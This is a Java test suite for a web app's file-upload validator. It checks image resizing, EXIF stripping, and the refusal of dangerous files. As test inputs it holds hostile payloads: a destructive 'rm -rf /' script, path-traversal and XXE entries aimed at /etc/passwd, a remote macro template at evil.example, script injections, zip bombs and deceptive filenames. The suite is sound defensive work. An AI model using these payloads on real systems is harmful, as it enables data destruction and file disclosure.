package org.kiezfonds.app.files;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.kiezfonds.app.files.Prepared.Fit;
import org.kiezfonds.app.files.Prepared.Form;
import org.kiezfonds.app.files.Prepared.Unfit;
import org.kiezfonds.app.texts.Languages;
import org.kiezfonds.app.texts.Texts;
import org.springframework.util.unit.DataSize;

/** What is taken and what is refused, and what is made of photos; without a database. */
class LookIntoFilesTest {

    private static final DataSize MOST = DataSize.ofMegabytes(15);

    private final Intake intake = new Intake(new FileSettings(
            MOST,
            MOST,
            DataSize.ofMegabytes(100),
            40,
            60_000_000,
            Duration.ofDays(2),
            60,
            DataSize.ofMegabytes(500)));

    @Test
    void a_photo_comes_in_three_widths_and_none_is_made_larger_than_it_was() {
        assertThat(widths(SampleFiles.jpeg(2400, 1800))).containsExactly(320, 960, 1920);
        assertThat(widths(SampleFiles.jpeg(1000, 500))).containsExactly(320, 960, 1000);
        assertThat(widths(SampleFiles.jpeg(960, 500))).containsExactly(320, 960);
        assertThat(widths(SampleFiles.jpeg(50, 500))).containsExactly(50);
    }

    @Test
    void a_photo_is_shown_as_the_camera_was_held() throws IOException {
        // Where red (above left) and blue (above right) of the stored picture are seen, for each
        // orientation of the EXIF standard.
        List<String> red = List.of("TL", "TR", "BR", "BL", "TL", "TR", "BR", "BL");
        List<String> blue = List.of("TR", "TL", "BL", "BR", "BL", "BR", "TR", "TL");
        for (int orientation = 1; orientation <= 8; orientation++) {
            boolean onItsSide = orientation > 4;
            byte[] photo = SampleFiles.photo(300, 200, orientation);
            BufferedImage seen = picture(photo);
            assertThat(seen.getWidth()).isEqualTo(onItsSide ? 200 : 300);
            assertThat(seen.getHeight()).isEqualTo(onItsSide ? 300 : 200);
            assertThat(colour(seen, red.get(orientation - 1)))
                    .as("red, orientation %s", orientation)
                    .isEqualTo("red");
            assertThat(colour(seen, blue.get(orientation - 1)))
                    .as("blue, orientation %s", orientation)
                    .isEqualTo("blue");
        }
    }

    @Test
    void the_place_where_a_photo_was_taken_is_gone() throws IOException {
        byte[] photo = SampleFiles.photo(400, 300, 6);
        assertThat(latin(photo)).contains(SampleFiles.SECRET_PLACE, "Exif");
        prepare(photo, prepared -> {
            for (Form form : fit(prepared).forms()) {
                assertThat(latin(Files.readAllBytes(form.content())))
                        .doesNotContain(SampleFiles.SECRET_PLACE)
                        .doesNotContain("Exif");
            }
        });
    }

    @Test
    void what_hangs_behind_a_photo_is_gone() {
        byte[] zip =
                SampleFiles.zip(Map.of("evil.html", SampleFiles.text("<script>evil()</script>")));
        byte[] both = joined(SampleFiles.jpeg(400, 300), zip);
        prepare(
                both,
                prepared -> assertThat(
                                latin(Files.readAllBytes(fit(prepared).widest().content())))
                        .doesNotContain("evil")
                        .doesNotContain("PK\u0003\u0004"));
    }

    @Test
    void a_picture_stays_png_only_where_something_shines_through() {
        BufferedImage clear = SampleFiles.quarters(100, 100, BufferedImage.TYPE_INT_ARGB);
        assertThat(mediaType(SampleFiles.written(clear, "png"))).isEqualTo("image/jpeg");
        clear.setRGB(50, 50, 0x00FFFFFF);
        assertThat(mediaType(SampleFiles.written(clear, "png"))).isEqualTo("image/png");
        BufferedImage plain = SampleFiles.quarters(100, 100, BufferedImage.TYPE_INT_RGB);
        assertThat(mediaType(SampleFiles.written(plain, "png"))).isEqualTo("image/jpeg");
    }

    @Test
    void gif_and_webp_are_taken_too() {
        BufferedImage plain = SampleFiles.quarters(100, 100, BufferedImage.TYPE_INT_RGB);
        assertThat(mediaType(SampleFiles.written(plain, "gif"))).startsWith("image/");
        assertThat(mediaType(SampleFiles.webp())).startsWith("image/");
    }

    @Test
    void a_photo_of_twenty_million_pixels_is_taken_and_small_afterwards() {
        byte[] large = SampleFiles.jpeg(5472, 3648);
        prepare(large, prepared -> {
            assertThat(fit(prepared).widest().width()).isEqualTo(1920);
            assertThat(fit(prepared).widest().height()).isEqualTo(1280);
            assertThat(fit(prepared).bytes()).isLessThan(1_000_000);
        });
    }

    @Test
    void a_few_bytes_that_claim_to_be_a_huge_picture_are_refused_before_anything_is_unpacked() {
        assertRefused(SampleFiles.pngClaiming(20_000, 20_000), "files.refused.tooManyPixels");
        assertRefused(SampleFiles.pngClaiming(1, 60_000), "files.refused.tooManyPixels");
    }

    @ParameterizedTest
    @ValueSource(strings = {"jpeg", "png", "gif"})
    void a_photo_that_ends_in_the_middle_is_refused(String format) {
        BufferedImage noise = noise();
        byte[] whole = SampleFiles.written(noise, format);
        assertFit(whole);
        assertRefused(Arrays.copyOf(whole, whole.length / 2), "files.refused.damagedPhoto");
        assertRefused(Arrays.copyOf(whole, 60), "files.refused.damagedPhoto");
    }

    @Test
    void a_webp_that_ends_in_the_middle_is_refused() {
        byte[] whole = SampleFiles.webp();
        assertRefused(Arrays.copyOf(whole, 24), "files.refused.damagedPhoto");
    }

    @Test
    void pictures_that_browsers_do_not_show_are_refused_with_a_way_out() {
        assertRefused(SampleFiles.heic(), "files.refused.heic");
        assertThat(Texts.get(Languages.GERMAN, "files.refused.heic")).contains("JPEG", "iPhone");
        assertRefused(SampleFiles.text("II*\0 a tiff"), "files.refused.otherPicture");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            <svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg> | drawing
            <?xml version='1.0'?><!-- a --><svg/>    | drawing
            <!DOCTYPE html><html></html>             | webPage
            <html><script>alert(1)</script></html>   | webPage
            <script>alert(1)</script>                | webPage
            MZ and so on                             | program
            {\\rtf1 Hallo}                           | oldOffice
            Rar! and so on                           | archive
            """)
    void what_can_run_or_hide_something_is_refused_whatever_it_is_called(
            String content, String reason) {
        assertRefused(SampleFiles.text(content), "files.refused." + reason);
        if (content.startsWith("<")) {
            assertRefused(SampleFiles.text("\uFEFF  \n" + content), "files.refused." + reason);
        }
    }

    @Test
    void a_script_for_the_command_line_is_refused() {
        assertRefused(SampleFiles.text("#!/bin/sh\nrm -rf /\n"), "files.refused.program");
    }

    @Test
    void an_empty_file_is_refused() {
        assertRefused(new byte[0], "files.refused.empty");
        assertRefused(SampleFiles.text(" \n \n"), "files.refused.unknown");
    }

    @Test
    void bytes_without_meaning_are_refused() {
        byte[] bytes = new byte[1000];
        Arrays.fill(bytes, (byte) 3);
        assertRefused(bytes, "files.refused.unknown");
    }

    @Test
    void text_and_tables_are_taken_in_the_encodings_that_people_have() {
        assertThat(mediaType(SampleFiles.text("Größe\nund Grüße")))
                .isEqualTo("text/plain;charset=UTF-8");
        assertThat(mediaType("Größe".getBytes(StandardCharsets.ISO_8859_1)))
                .isEqualTo("text/plain;charset=windows-1252");
        assertThat(mediaType(SampleFiles.text("Was;Wieviel\nZelt;120,50\n")))
                .isEqualTo("text/csv;charset=UTF-8");
        assertThat(mediaType("\uFEFFGrüße".getBytes(StandardCharsets.UTF_16LE)))
                .isEqualTo("text/plain;charset=UTF-16");
    }

    @Test
    void office_texts_and_tables_are_taken() {
        assertThat(mediaType(SampleFiles.docx(Map.of()))).endsWith("wordprocessingml.document");
        assertThat(mediaType(SampleFiles.xlsx())).endsWith("spreadsheetml.sheet");
        assertThat(mediaType(SampleFiles.odt(Map.of()))).endsWith("opendocument.text");
        assertThat(mediaType(SampleFiles.openDocument("spreadsheet", Map.of())))
                .endsWith("opendocument.spreadsheet");
    }

    @Test
    void other_packages_are_refused() {
        assertRefused(
                SampleFiles.zip(Map.of("a.txt", SampleFiles.text("a"))), "files.refused.archive");
        assertRefused(
                SampleFiles.openDocument("presentation", Map.of()), "files.refused.otherOffice");
        assertRefused(
                SampleFiles.docx(Map.of(
                        "[Content_Types].xml",
                        SampleFiles.text("<Types><Override ContentType='x'/></Types>"))),
                "files.refused.otherOffice");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../etc/passwd",
                "/etc/passwd",
                "C:\\evil.txt",
                "word/..\\evil.xml",
                "a/../../b"
            })
    void a_package_whose_entries_point_outside_is_refused(String name) {
        assertRefused(
                SampleFiles.docx(Map.of(name, SampleFiles.text("evil"))), "files.refused.zipNames");
    }

    @Test
    void a_package_that_swells_is_refused() {
        assertRefused(
                SampleFiles.docx(Map.of("word/media/image1.bmp", new byte[60 << 20])),
                "files.refused.zipBomb");
    }

    @Test
    void a_package_of_thousands_of_entries_is_refused() {
        Map<String, byte[]> many = new LinkedHashMap<>();
        for (int i = 0; i < 3_100; i++) {
            many.put("word/" + i + ".xml", new byte[0]);
        }
        assertRefused(SampleFiles.docx(many), "files.refused.zipBomb");
    }

    @Test
    void macros_are_refused_however_they_hide() {
        assertRefused(
                SampleFiles.docx(Map.of("word/vbaProject.bin", SampleFiles.text("x"))),
                "files.refused.macros");
        assertRefused(
                SampleFiles.docx(
                        Map.of(
                                "[Content_Types].xml",
                                SampleFiles.text(
                                        "<Types><Override PartName='/word/document.xml' ContentType="
                                                + "'application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"))),
                "files.refused.macros");
        assertRefused(
                SampleFiles.docx(Map.of(
                        "word/_rels/settings.xml.rels",
                        SampleFiles.text(
                                "<Relationships><Relationship Type='http://x/attachedTemplate'"
                                        + " Target='https://evil.example/t.dotm' TargetMode='External'/>"
                                        + "</Relationships>"))),
                "files.refused.macros");
        assertRefused(
                SampleFiles.odt(Map.of("Basic/Standard/Module1.xml", SampleFiles.text("<x/>"))),
                "files.refused.macros");
    }

    @Test
    void an_office_file_with_a_password_or_a_torn_part_is_refused() {
        assertRefused(
                SampleFiles.odt(
                        Map.of(
                                "META-INF/manifest.xml",
                                SampleFiles.text(
                                        "<manifest><file-entry><encryption-data/></file-entry></manifest>"))),
                "files.refused.encrypted");
        assertRefused(
                SampleFiles.odt(Map.of("content.xml", SampleFiles.text("<document-content>Somm"))),
                "files.refused.damaged");
        byte[] whole = SampleFiles.docx(Map.of());
        assertRefused(Arrays.copyOf(whole, whole.length / 2), "files.refused.zipTail");
    }

    @Test
    void a_package_that_asks_for_files_of_this_machine_gets_none() {
        assertRefused(
                SampleFiles.odt(
                        Map.of(
                                "content.xml",
                                SampleFiles.text(
                                        "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><d>&x;</d>"))),
                "files.refused.damaged");
    }

    @Test
    void a_plain_pdf_is_kept_byte_for_byte() {
        byte[] pdf = SampleFiles.pdf();
        prepare(pdf, prepared -> {
            assertThat(fit(prepared).widest().mediaType()).isEqualTo("application/pdf");
            assertThat(Files.readAllBytes(fit(prepared).widest().content())).isEqualTo(pdf);
        });
    }

    @Test
    void a_pdf_that_can_do_more_than_be_read_is_refused() {
        assertRefused(SampleFiles.pdfWithScript(), "files.refused.pdfActive");
        assertRefused(SampleFiles.pdfThatStartsAProgram(), "files.refused.pdfActive");
        assertRefused(SampleFiles.pdfWithFileInside(), "files.refused.pdfFiles");
        assertRefused(SampleFiles.pdfWithPassword("secret"), "files.refused.encrypted");
        assertRefused(SampleFiles.pdfWithPassword(""), "files.refused.encrypted");
    }

    @Test
    void a_pdf_that_is_also_something_else_is_refused() {
        byte[] zip = SampleFiles.zip(Map.of("a.txt", SampleFiles.text("a")));
        assertRefused(joined(SampleFiles.pdf(), zip), "files.refused.pdfTail");
        assertRefused(
                joined(SampleFiles.pdf(), SampleFiles.text("<script>evil()</script>")),
                "files.refused.pdfTail");
        assertRefused(
                joined(SampleFiles.text("<html>"), SampleFiles.pdf()), "files.refused.latePdf");
        assertRefused(
                joined(SampleFiles.text("abc\n"), SampleFiles.pdf()), "files.refused.latePdf");
        assertRefused(joined(zip, SampleFiles.pdf()), "files.refused.zipTail");
        assertRefused(
                joined(SampleFiles.docx(Map.of()), SampleFiles.text("<script>evil()</script>")),
                "files.refused.zipTail");
    }

    @Test
    void a_pdf_that_swells_or_is_torn_is_refused() {
        assertRefused(SampleFiles.pdfThatSwells(120 << 20), "files.refused.pdfSwells");
        assertFit(SampleFiles.pdfThatSwells(20 << 20));
        byte[] whole = SampleFiles.pdf();
        assertRefused(Arrays.copyOf(whole, whole.length - 40), "files.refused.damaged");
        assertRefused(SampleFiles.text("%PDF-1.7\nnothing\n%%EOF"), "files.refused.damaged");
        assertRefused(
                SampleFiles.text("%PDF-1.7\n1 0 obj <</F#69lter/L#5aWDecode>> stream\n\n%%EOF"),
                "files.refused.pdfSwells");
    }

    @Test
    void no_more_is_read_than_allowed_however_long_the_stream_is() throws IOException {
        Endless endless = new Endless();
        try (Spool spool = Spool.of(endless, MOST.toBytes())) {
            assertThat(spool.bytes()).isEqualTo(MOST.toBytes() + 1);
            assertThat(endless.read).isLessThan(MOST.toBytes() + 100_000);
            assertThat(intake.prepare(spool))
                    .isEqualTo(Unfit.of("files.refused.documentTooLarge", 15L));
        }
    }

    @Test
    void a_stream_that_breaks_off_leaves_nothing_behind() throws IOException {
        Set<Path> before = spooled();
        InputStream broken = SampleFiles.breakingOffAfter(100_000);
        assertThatThrownBy(() -> Spool.of(broken, MOST.toBytes())).isInstanceOf(IOException.class);
        // Other programs on this machine may spool just now; theirs go when they are done.
        Set<Path> since = spooled();
        since.removeAll(before);
        await().until(() -> since.stream().noneMatch(Files::exists));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            ../../etc/passwd                | passwd.pdf
            C:\\Users\\ana\\Kostenplan.docx | Kostenplan.pdf
            rechnung.exe                    | rechnung.pdf
            Fest im Hof.PDF                 | Fest im Hof.pdf
            foto\u202egpj.exe               | fotogpj.pdf
            <b>&.pdf                        | b_&.pdf
            日本語 Żółć.pdf                  | 日本語 Żółć.pdf
            """)
    void a_name_is_shown_without_what_could_deceive(String given, String shown) {
        assertThat(FileNames.shown(given, "pdf", FileId.next())).isEqualTo(shown);
    }

    @Test
    void a_name_of_nothing_gets_a_piece_of_the_key_and_a_long_one_is_cut() {
        FileId id = FileId.next();
        assertThat(FileNames.shown("..", "pdf", id)).matches("[0-9a-f]{8}\\.pdf");
        assertThat(FileNames.shown("\u202e\u0000", "pdf", id)).matches("[0-9a-f]{8}\\.pdf");
        assertThat(FileNames.shown("ä".repeat(100_000), "pdf", id)).hasSize(104);
    }

    private static Set<Path> spooled() throws IOException {
        try (var all = Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
            return all.filter(each -> each.getFileName().toString().startsWith("kiezfonds-file"))
                    .collect(Collectors.toCollection(HashSet::new));
        }
    }

    private static BufferedImage noise() {
        Random random = new Random(7);
        BufferedImage noise = new BufferedImage(200, 200, BufferedImage.TYPE_INT_RGB);
        Graphics2D graphics = noise.createGraphics();
        for (int i = 0; i < 2_000; i++) {
            graphics.setColor(new Color(random.nextInt(0x1000000)));
            graphics.fillRect(random.nextInt(200), random.nextInt(200), 9, 9);
        }
        graphics.dispose();
        return noise;
    }

    /** Letters without end. */
    private static final class Endless extends InputStream {
        private long read;

        @Override
        public int read() {
            read++;
            return 'x';
        }

        @Override
        public int read(byte[] buffer, int offset, int length) {
            Arrays.fill(buffer, offset, offset + length, (byte) 'x');
            read += length;
            return length;
        }
    }

    private interface Look {
        void at(Prepared prepared) throws IOException;
    }

    private void prepare(byte[] content, Look look) {
        try (Spool spool = Spool.of(new ByteArrayInputStream(content), MOST.toBytes())) {
            look.at(intake.prepare(spool));
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static Fit fit(Prepared prepared) {
        assertThat(prepared).isInstanceOf(Fit.class);
        return (Fit) prepared;
    }

    private void assertFit(byte[] content) {
        prepare(content, LookIntoFilesTest::fit);
    }

    /** Refused, and the reason can be said in each language. */
    private void assertRefused(byte[] content, String reason) {
        prepare(content, prepared -> {
            assertThat(prepared).isInstanceOf(Unfit.class);
            FileProblem problem = ((Unfit) prepared).problem();
            assertThat(problem.textKey()).isEqualTo(reason);
            for (Locale language : List.of(Languages.GERMAN, Languages.ENGLISH)) {
                assertThat(Texts.get(language, reason, problem.arguments().toArray()))
                        .isNotBlank();
            }
        });
    }

    private List<Integer> widths(byte[] content) {
        ArrayList<Integer> widths = new ArrayList<>();
        prepare(
                content,
                prepared -> fit(prepared).forms().forEach(form -> widths.add(form.width())));
        return widths;
    }

    private String mediaType(byte[] content) {
        StringBuilder type = new StringBuilder();
        prepare(content, prepared -> type.append(fit(prepared).widest().mediaType()));
        return type.toString();
    }

    private BufferedImage picture(byte[] content) throws IOException {
        ArrayList<BufferedImage> pictures = new ArrayList<>();
        prepare(
                content,
                prepared -> pictures.add(
                        ImageIO.read(fit(prepared).widest().content().toFile())));
        return pictures.getFirst();
    }

    private static String colour(BufferedImage picture, String corner) {
        int x = picture.getWidth() * (corner.endsWith("L") ? 1 : 3) / 4;
        int y = picture.getHeight() * (corner.startsWith("T") ? 1 : 3) / 4;
        Color colour = new Color(picture.getRGB(x, y));
        if (colour.getRed() > 200 && colour.getGreen() < 60) {
            return "red";
        }
        return colour.getBlue() > 200 && colour.getGreen() < 60 ? "blue" : "other";
    }

    private static String latin(byte[] bytes) {
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
